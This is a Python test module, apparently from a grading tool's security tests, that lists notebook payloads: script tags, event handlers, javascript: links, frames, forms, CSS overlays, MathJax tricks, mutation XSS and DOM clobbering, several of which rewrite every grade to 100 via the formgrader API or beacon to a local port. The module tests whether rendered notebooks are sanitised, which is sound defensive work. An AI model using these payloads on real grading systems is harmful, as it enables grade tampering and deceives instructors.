# ruff: noqa: E501 - what is handed in is text, and its longest lines stay as they would be written
"""Pages: HTML, SVG, Markdown, scripts and styles that act where an instructor or a student looks at a notebook."""

from tests.attacks.attack import RIGHT, Attack, cell

# What a script does where it runs: it says so in the page, to a port of the host's, and to the gradebook.
ACT = (
    "window.owned = 1; fetch('http://127.0.0.1:@TCP@/@MARK@'); fetch('/formgrader/api/grades').then(a => a.json())"
    ".then(all => all.forEach(one => fetch('/formgrader/api/grade/' + one.id, {method: 'PUT', body: '{\"manual_score\": 100}'})))"
)
BEACON = "http://127.0.0.1:@TCP@/@MARK@"


def _pages(name: str, tries: str, *texts: str, code: str = "") -> Attack:
    """The same text as a Markdown cell, a raw cell, an output and an attachment's name."""

    def rewrite(notebook: dict) -> None:
        for text in texts:
            notebook["cells"][1:1] = [cell(text, "markdown"), cell(text, "raw")]
            notebook["cells"].append(
                cell(
                    f"from IPython.display import HTML, Markdown, display\ndisplay(HTML({text!r}), Markdown({text!r}))"
                )
            )
            notebook["cells"].append(
                cell(f"display({{'text/html': {text!r}, 'image/svg+xml': {text!r}, 'text/latex': {text!r}}}, raw=True)")
            )
            notebook["cells"].append(cell(f"# {text.splitlines()[0]}\nprint({text!r})\nraise ValueError({text!r})"))
        if code:
            notebook["cells"].append(cell(code))

    return Attack(name=f"pages-{name}", category="pages", tries=tries, answers=RIGHT, earns=100, rewrite=rewrite)


PAGES = [
    _pages("script", "Runs a script where its notebook is read.", f"<script>{ACT}</script>", f"<svg><script>{ACT}</script></svg>"),
    _pages("handlers", "Runs scripts from event handlers of pictures, drawings, media and details.",
           *(f"<{tag} {event}=\"{ACT}\">" for tag, event in (("img src=x", "onerror"), ("svg", "onload"), ("video src=x", "onerror"), ("details open", "ontoggle"),
                                                             ("input autofocus", "onfocus"), ("marquee", "onstart"), ("body", "onload"), ("a href=# style='animation:x 1s'", "onanimationstart")))),
    _pages("javascript-output", "Gives scripts as outputs of their own kinds.", code=
           f"from IPython.display import Javascript, display\ndisplay(Javascript({ACT!r}))\n"
           f"display({{'application/javascript': {ACT!r}, 'application/x-javascript': {ACT!r}, 'text/javascript': {ACT!r}, 'application/vnd.jupyter.widget-view+json': {{'model_id': 'x'}}}}, raw=True)"),
    _pages("links", "Puts scripts behind links and pictures.", f"[see](javascript:{ACT.replace(' ', '%20').replace('(', '%28').replace(')', '%29')})",
           f"<a href=\"javascript:{ACT}\">see</a> <a href=\"&#106;ava&#9;script:{ACT}\">see</a> <a href=\"data:text/html,<script>{ACT}</script>\">see</a>",
           f"<iframe src=\"javascript:parent.{ACT}\"></iframe><embed src=\"javascript:{ACT}\"><object data=\"javascript:{ACT}\"></object>"),
    _pages("frames", "Brings a page of its own in a frame.", f"<iframe srcdoc=\"<script>parent.{ACT}</script>\"></iframe>",
           "<iframe src='data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQgPSAxPC9zY3JpcHQ+'></iframe>", f"<iframe src='{BEACON}'></iframe>", f"<object data='{BEACON}'></object>"),
    _pages("forms", "Sends the formgrader a mark by a form, and lets a button of the page do it.",
           "<form id=x method=post action='/formgrader/api/grade/1'><input name=manual_score value=100><button autofocus>Next</button></form><button form=x formaction='/formgrader/api/grade/1'>Save</button>",
           "<form action='/formgrader/api/submission/1/autograde' method=post><input type=image src=x></form>"),
    _pages("redirects", "Takes the reader elsewhere, or changes what every address means.", f"<meta http-equiv=refresh content='0;url={BEACON}'>",
           f"<meta http-equiv='Set-Cookie' content='x=1'><base href='{BEACON}/'>", f"<link rel=stylesheet href='{BEACON}'><link rel=prefetch href='{BEACON}'>"),
    _pages("beacons", "Fetches something when it is read, which tells who reads when.", f"![]({BEACON}) <img src='{BEACON}'><img srcset='{BEACON} 2x'>",
           f"<video poster='{BEACON}'><audio src='{BEACON}' autoplay></audio></video><input type=image src='{BEACON}'><table background='{BEACON}'>",
           f"<svg><image href='{BEACON}'/><use href='{BEACON}#x'/></svg><picture><source srcset='{BEACON}'></picture>", f"<img src='/formgrader/api/submissions/target'> ![](/{'@MARK@'})"),
    _pages("styles", "Lays a page of its own over the page, and hides the points.", f"<div style='position:fixed;inset:0;z-index:99999;background:#fff url({BEACON})'>100 of 100 points</div>",
           f"<style>* {{ display: none !important; background: url({BEACON}) }} @import url({BEACON}); input[value^='1'] {{ background: url({BEACON}) }}</style>",
           "<div class='score mark-graded modal-backdrop' id='grade'>100</div><p hidden>", "</div></div></div></main></body><h1>100 of 100 points</h1>"),
    _pages("mathjax", "Has the formulas of the page run something.", f"$\\href{{javascript:{ACT}}}{{x}}$", "$$\\require{html}\\unicode{<img src=x onerror=window.owned=1>}\\style{position:fixed;inset:0}{x}$$",
           "\\(\\cssId{grade}{x}\\class{score}{y}\\def\\x{\\x}\\x\\) $\\newcommand{\\a}{\\a\\a}\\a$", "<script type='math/tex'>\\href{javascript:window.owned=1}{x}</script>"),
    _pages("mutations", "Becomes a script only after it was cleaned or written again.", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={ACT!r}&gt;\">",
           f"<noscript><p title=\"</noscript><img src=x onerror='{ACT}'>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=window.owned=1>\">",
           "<!--><img src=x onerror=window.owned=1>-->", """\
``` </pre><script>window.owned = 1</script>
</pre><script>window.owned = 1</script>
```""", "<a title='`<img src=x onerror=window.owned=1>`'>`"),
    _pages("clobbering", "Gives its own elements the names that the page's scripts look for.", "<form id=grades><input name=innerHTML><input id=base_url></form><a id=formgrader name=base_url href='javascript:window.owned=1'>",
           "<img name=jQuery><img id=window><img name=document><div class=nbgrader_cell><input class='score' value=100 id='scaling'><div class='comment'>",
           "<input class='form-control score tabbable' type=number placeholder=100 name=scaling value=100>"),
]  # fmt: skip
